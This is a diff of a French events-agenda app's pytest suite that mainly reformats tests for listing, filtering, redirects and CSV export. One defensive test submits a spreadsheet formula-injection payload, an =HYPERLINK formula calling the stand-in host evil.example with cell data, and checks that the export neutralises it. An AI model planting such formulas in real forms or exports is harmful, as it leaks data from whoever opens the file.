@@ -24,8 +24,10 @@ def test_the_agenda_lists_upcoming_events_soonest_first(client):
     make_event(title="Brouillon caché", status="draft")
     make_event(title="Déjà passé", days=-3)
     html = page(client.get("/evenements/"))
-    assert titles(html, "Dans dix jours", "Dans deux jours", "Brouillon caché", "Déjà passé") == \
-        ["Dans deux jours", "Dans dix jours"]
+    assert titles(html, "Dans dix jours", "Dans deux jours", "Brouillon caché", "Déjà passé") == [
+        "Dans deux jours",
+        "Dans dix jours",
+    ]
     assert "2 événements à venir" in html
 
 
@@ -34,22 +36,30 @@ def test_past_events_are_in_the_archive_latest_first(client):
     make_event(title="Il y a dix jours", days=-10)
     make_event(title="À venir", days=3)
     html = page(client.get("/evenements/passes"))
-    assert titles(html, "Il y a trois jours", "Il y a dix jours", "À venir") == ["Il y a trois jours", "Il y a dix jours"]
+    assert titles(html, "Il y a trois jours", "Il y a dix jours", "À venir") == [
+        "Il y a trois jours",
+        "Il y a dix jours",
+    ]
 
 
 def test_a_card_says_when_in_french_and_how_many_places_are_left(client):
     make_event(title="Journée", days=5, start=time(14), end=time(17, 30), capacity=12)
     make_event(title="Sans inscription", days=6, registration_required=False)
     html = page(client.get("/evenements/"))
-    assert "14 h – 17 h 30" in html and "12 places restantes sur 12" in html and "Sans inscription, entrée libre" in html
+    assert (
+        "14 h – 17 h 30" in html and "12 places restantes sur 12" in html and "Sans inscription, entrée libre" in html
+    )
 
 
-@pytest.mark.parametrize("query, expected", [
-    ("type=cafe", ["Café à Flers"]),
-    ("zone=alencon", ["Réunion à Alençon"]),
-    ("metier=aide-soignant", ["Café à Flers"]),
-    ("type=cafe&type=information", ["Café à Flers", "Réunion à Alençon"]),
-])
+@pytest.mark.parametrize(
+    ("query", "expected"),
+    [
+        ("type=cafe", ["Café à Flers"]),
+        ("zone=alencon", ["Réunion à Alençon"]),
+        ("metier=aide-soignant", ["Café à Flers"]),
+        ("type=cafe&type=information", ["Café à Flers", "Réunion à Alençon"]),
+    ],
+)
 def test_the_agenda_filters_by_kind_zone_and_metier(client, query, expected):
     make_event(title="Café à Flers", kind="cafe", insee="61169", metiers=["aide-soignant"], days=2)
     make_event(title="Réunion à Alençon", kind="information", insee="61001", metiers=["infirmier"], days=3)
@@ -82,7 +92,8 @@ def test_an_event_page_redirects_to_its_canonical_address(client):
     for wrong in (f"/evenements/{event.id}", f"/evenements/{event.id}-ancien-titre"):
         response = client.get(wrong)
         assert response.status_code == 301 and response.headers["Location"].endswith(
-            f"/evenements/{event.id}-portes-ouvertes-de-l-ehpad")
+            f"/evenements/{event.id}-portes-ouvertes-de-l-ehpad"
+        )
 
 
 def test_the_description_keeps_its_lines_and_no_html(client):
@@ -121,8 +132,10 @@ def test_the_registrants_export_neutralises_formulas(app, make, client, auth):
     member = make.member()
     event = make_event(structure=member.structure, capacity=10)
     visitor = app.test_client()
-    visitor.post(f"/evenements/{event.id}/inscription-sans-compte",
-                 data={"name": '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")', "email": "x@exemple.fr"})
+    visitor.post(
+        f"/evenements/{event.id}/inscription-sans-compte",
+        data={"name": '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")', "email": "x@exemple.fr"},
+    )
     visitor.post(visitor_link("x@exemple.fr"))
     auth.login(member)
     html = page(client.get(f"/compte/evenements/{event.id}"))
@@ -132,7 +145,7 @@ def test_the_registrants_export_neutralises_formulas(app, make, client, auth):
     text = response.data.decode("utf-8")
     assert text.startswith("\ufeff")
     rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
-    assert rows[0][0] == "Nom" and rows[1][0] == "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Cliquez\")"
+    assert rows[0][0] == "Nom" and rows[1][0] == '\'=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'
     assert rows[1][2] == "Inscrit·e"
 
 
